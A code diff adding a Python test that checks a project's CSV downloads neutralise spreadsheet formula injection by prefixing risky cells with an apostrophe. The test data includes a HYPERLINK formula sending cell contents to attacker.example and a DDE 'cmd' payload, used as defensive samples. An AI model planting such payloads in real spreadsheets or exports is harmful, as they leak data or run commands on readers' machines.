@@ -542,3 +542,48 @@ def test_a_sum_that_lists_one_system_twice_is_a_registry_error(tmp_path):
         check_selections(data)
     claim["subject"]["sum"][1] = {"system": "node", "count": 2}
     check_selections(world(tmp_path, rows, [claim]))  # two systems: a sum
+
+
+# ---------------------------------------------------------------------------------------------
+# What a spreadsheet opens
+
+
+def test_a_download_never_carries_a_formula_and_the_tidy_table_keeps_its_values(tmp_path):
+    """A published name such as ``=HYPERLINK(...)`` goes through ingest as is (it is the name);
+    every CSV the book offers for download writes a cell a spreadsheet would run (``=``, ``+``,
+    ``-``, ``@``) as text, with a ``'`` before it (OWASP's CSV injection rule). A number is no
+    formula: negative numbers, signed gaps and number columns are written as they are."""
+    import csv
+
+    from claimbook.common.spreadsheet import safe_cell, safe_frame
+    from claimbook.pipeline.assemble import write_download
+
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Acme")'
+    for cell in (formula, "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "-x"):
+        assert safe_cell(cell) == "'" + cell, cell
+    for cell in ("-3.5", "-12.5%", "+1", "1e-30", "Acme", "", "a=b"):
+        assert safe_cell(cell) == cell, cell
+    frame = pd.DataFrame(
+        {"organization": [formula, "Acme"], "gap": [-0.125, 2.0], "text_gap": ["-12.5%", "x"]}
+    )
+    safe = safe_frame(frame)
+    assert safe["organization"].tolist() == ["'" + formula, "Acme"]
+    assert safe["gap"].tolist() == [-0.125, 2.0] and safe["text_gap"].tolist() == ["-12.5%", "x"]
+    assert frame["organization"].iloc[0] == formula  # the table itself keeps its value
+
+    table = pd.read_csv(COMMITTED, keep_default_na=False, dtype=str)
+    plain = tmp_path / "plain.csv"
+    table.to_csv(plain, index=False, lineterminator="\n")
+    write_download(plain, tmp_path / "plain-download.csv")
+    assert (tmp_path / "plain-download.csv").read_bytes() == plain.read_bytes()
+    table.loc[table.index[3], "organization"] = formula
+    tidy = tmp_path / "v6.1.csv"
+    table.to_csv(tidy, index=False, lineterminator="\n")
+    before = tidy.read_bytes()
+    write_download(tidy, tmp_path / "round.csv")
+    assert tidy.read_bytes() == before
+    with open(tmp_path / "round.csv", newline="", encoding="utf-8") as stream:
+        rows = list(csv.DictReader(stream))
+    assert rows[3]["organization"] == "'" + formula
+    assert [row["result"] for row in rows] == table["result"].tolist()
+    assert all(not value.startswith(("=", "@")) for row in rows for value in row.values())
